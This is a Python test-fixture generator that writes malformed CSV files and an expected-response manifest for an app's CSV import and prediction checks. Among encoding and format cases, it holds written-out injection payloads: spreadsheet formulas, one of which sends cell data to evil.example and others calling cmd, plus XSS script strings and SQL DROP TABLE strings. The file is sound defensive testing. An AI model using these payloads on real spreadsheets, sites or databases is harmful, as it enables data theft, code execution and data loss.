"""Writes the bad-input corpus next to this file: small CSV files that are wrong in one way
each, and manifest.json saying what the app must answer for each (`tests/api/test_bad_inputs.py`
reads it). Run `python tests/data/bad_inputs/make_corpus.py` after changing a case; the files
are committed, so the tests never depend on this script.

manifest.json, one entry per file:
  "import":      {"refused": "<fragment of the message>"} or {"added": n, "skipped": m}
  "predict_csv": {"refused": "<fragment>"} or {"rows": n, "problems": m}
Counts assume the tests' database: the 240-tweet sample plus the files imported before, in
manifest order (every file's texts are unique to it, so the order does not matter).
Larger cases (a 300 kB line, 10,000 columns, 200,001 rows, a file over the size cap) are made
by the test itself, so the repository stays small.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
import zipfile
from pathlib import Path

HERE = Path(__file__).parent


def rows_csv(header: list[str], rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")  # CRLF: a lone \r inside a cell is quoted
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue().encode("utf-8")


def xlsx() -> bytes:
    """A minimal real .xlsx workbook (a zip of XML parts)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                   'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
                   'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>')
        z.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/'
                   'spreadsheetml/2006/main"><sheets><sheet name="text" sheetId="1"/></sheets></workbook>')
        z.writestr("xl/worksheets/sheet1.xml", "<worksheet><sheetData><row><c t='inlineStr'><is><t>text</t></is>"
                   "</c></row><row><c t='inlineStr'><is><t>a tweet in excel</t></is></c></row></sheetData>"
                   "</worksheet>")
    return buf.getvalue()


def junk(n: int) -> bytes:
    rng = random.Random(0)
    return bytes(rng.randrange(256) for _ in range(n))


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0 formula plus",
            "-2+3 formula minus", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=formula after a tab",
            "\r=formula after a carriage return"]
HTML = ['<img src=x onerror="window.__xss=1">img tag text', "<script>window.__xss=2</script>script tag text",
        "[click me](javascript:window.__xss=3) markdown link text"]

CASES: list[tuple[str, str, bytes, dict, dict]] = [
    # file, what it is, content, import expectation, predict_csv expectation
    ("no_text_column.csv", "a CSV without a text column",
     rows_csv(["tweet", "label"], [["the tweet column is not called text", "positive"]]),
     {"refused": "needs a 'text' column; found columns: 'tweet', 'label'"},
     {"refused": "needs a 'text' column"}),
    ("empty.csv", "an empty file", b"", {"refused": "The file is empty"}, {"refused": "The file is empty"}),
    ("whitespace_only.csv", "only blank lines", b" \r\n\t\n  \n", {"refused": "The file is empty"},
     {"refused": "The file is empty"}),
    ("header_only.csv", "a header and no rows", b"text,label\r\n", {"refused": "header but no rows"},
     {"refused": "header but no rows"}),
    ("binary_junk.csv", "2 kB of random bytes (NULs included)", junk(2048), {"refused": "binary data"},
     {"refused": "binary data"}),
    ("nul_bytes.csv", "a text CSV with a NUL byte in a cell", b"text\nnul \x00 byte in the middle\n",
     {"refused": "binary data: NUL bytes"}, {"refused": "binary data: NUL bytes"}),
    ("xlsx_renamed.csv", "an Excel workbook renamed .csv", xlsx(), {"refused": "zip file (an Excel .xlsx"},
     {"refused": "zip file (an Excel .xlsx"}),
    ("malformed_quoting.csv", "a quote that is never closed",
     b'text,label\n"a quote that is never closed,positive\nnext row,neutral\n', {"refused": "not valid CSV"},
     {"refused": "not valid CSV"}),
    ("stray_quote.csv", "a quote in the middle of a quoted cell", b'text\n"quoted"then more"\n',
     {"refused": "not valid CSV"}, {"refused": "not valid CSV"}),
    ("ragged_rows.csv", "a row with more fields than the header",
     b"text,label\nthree fields in a two column file,positive,extra\n", {"refused": "not valid CSV"},
     {"refused": "not valid CSV"}),
    ("semicolon.csv", "semicolon-separated", b"text;label\nsemicolon separated;positive\n",
     {"refused": "seems to use another separator"}, {"refused": "seems to use another separator"}),
    ("tab_separated.csv", "a TSV renamed .csv", b"text\tlabel\ntab separated\tpositive\n",
     {"refused": "seems to use another separator"}, {"refused": "seems to use another separator"}),
    ("header_with_empty_names.csv", "a header of empty names", b",,\n,,\n", {"refused": "needs a 'text' column"},
     {"refused": "needs a 'text' column"}),
    ("undecodable.csv", "bytes that are neither UTF-8 nor Windows-1252",
     b"text\nundecodable \x81\x8d\x8f\x90\x9d bytes\n", {"refused": "not UTF-8"}, {"refused": "not UTF-8"}),
    ("cp1252.csv", "Windows-1252 (read with a warning)",
     "text,label\ncp1252 café crème brûlée,positive\n".encode("cp1252"), {"added": 1, "skipped": 0},
     {"rows": 1, "problems": 0}),
    ("utf16.csv", "UTF-16 with a BOM (Excel's 'Unicode text')",
     "text,label\nutf16 with a byte order mark,neutral\n".encode("utf-16"), {"added": 1, "skipped": 0},
     {"rows": 1, "problems": 0}),
    ("bom_header.csv", "a UTF-8 BOM and upper-case column names",
     codecs.BOM_UTF8 + b"Text,LABEL\nbom and upper case header,Positive\n", {"added": 1, "skipped": 0},
     {"rows": 1, "problems": 0}),
    ("cr_line_endings.csv", "old-Mac line ends (CR only)", b"text\rold mac line one\rold mac line two\r",
     {"added": 2, "skipped": 0}, {"rows": 2, "problems": 0}),
    ("missing_fields.csv", "rows with fewer fields than the header",
     b"text,label\nmissing fields row without a label\n,positive\n", {"added": 1, "skipped": 1},
     {"rows": 2, "problems": 1}),
    ("unknown_labels.csv", "labels outside the configured set, any case",
     rows_csv(["text", "label"], [["unknown labels one", "great"], ["unknown labels two", "POSITIVE"],
                                  ["unknown labels three", " Neutral "], ["unknown labels four", ""],
                                  ["unknown labels five", "nan"], ["unknown labels six", "None"],
                                  ["unknown labels seven", "1"]]),
     {"added": 3, "skipped": 4}, {"rows": 7, "problems": 0}),
    ("duplicate_rows.csv", "the same text seven times (case, spaces, mentions, links)",
     rows_csv(["text"], [["duplicate rows text"]] * 3 + [["DUPLICATE ROWS TEXT"], ["  duplicate   rows text "],
                                                          ["@someone duplicate rows text"],
                                                          ["duplicate rows text http://t.co/x"]]),
     {"added": 1, "skipped": 6}, {"rows": 7, "problems": 0}),
    ("formulas.csv", "cells a spreadsheet would run as formulas", rows_csv(["text"], [[f] for f in FORMULAS]),
     {"added": 6, "skipped": 0}, {"rows": 6, "problems": 0}),
    ("formula_header.csv", "formula column names", rows_csv(["text", '=HYPERLINK("http://evil.example")'],
                                                             [["formula header row", "x"]]),
     {"added": 1, "skipped": 0}, {"rows": 1, "problems": 0}),
    ("html_script.csv", "HTML, script and a javascript: link", rows_csv(["text"], [[h] for h in HTML]),
     {"added": 3, "skipped": 0}, {"rows": 3, "problems": 0}),
    ("sql_injection.csv", "SQL in the cells", rows_csv(["text", "label"], [
        ["'; DROP TABLE examples;--", "negative"], ['Robert"); DROP TABLE label_events;--', ""]]),
     {"added": 2, "skipped": 0}, {"rows": 2, "problems": 0}),
    ("only_links_and_mentions.csv", "texts that clean to nothing (a line of spaces is a blank line, no row)",
     rows_csv(["text"], [["http://t.co/a"], ["@united @delta"], ["www.example.com"], ["   "], ["\u200b\u200d"]]),
     {"refused": "Nothing to import"}, {"rows": 4, "problems": 4}),
    ("duplicate_header.csv", "two columns named text",
     b"text,text,label\nfirst text column wins,second,positive\n", {"added": 1, "skipped": 0},
     {"rows": 1, "problems": 0}),
    ("quoted_newlines.csv", "a quoted cell over two lines", b'text\n"quoted newline line one\nline two"\n',
     {"added": 1, "skipped": 0}, {"rows": 1, "problems": 0}),
    ("long_cells.csv", "a text of exactly the cap and one over it",
     rows_csv(["text"], [["c" * 2000], ["d" * 2001]]), {"added": 1, "skipped": 1}, {"rows": 2, "problems": 1}),
    ("numbers_and_controls.csv", "numbers, ANSI escapes, bell and DEL characters",
     rows_csv(["text"], [["12345"], ["-1"], ["\x1b[31mred ansi\x1b[0m text"], ["bell\x07 and del\x7f text"]]),
     {"added": 4, "skipped": 0}, {"rows": 4, "problems": 0}),
]


def main() -> None:
    manifest = []
    for name, what, content, imp, pred in CASES:
        (HERE / name).write_bytes(content)
        manifest.append({"file": name, "what": what, "import": imp, "predict_csv": pred})
    (HERE / "manifest.json").write_text(json.dumps(manifest, indent=1, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
